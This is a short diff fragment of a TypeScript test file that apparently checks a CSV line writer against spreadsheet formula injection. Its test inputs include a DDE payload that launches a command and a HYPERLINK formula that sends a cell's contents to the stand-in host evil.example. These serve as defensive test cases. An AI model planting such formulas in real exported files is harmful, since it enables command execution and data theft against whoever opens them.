@@ -4,6 +4,7 @@ import { csvLine } from "./csv.ts";
 
 const read = (text: string) => Papa.parse<string[]>(text).data.filter((line) => line.length > 1);
 
+/** @spec messages.11 */
 test.each([
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("https://evil.example?x="&A1,"Click")',
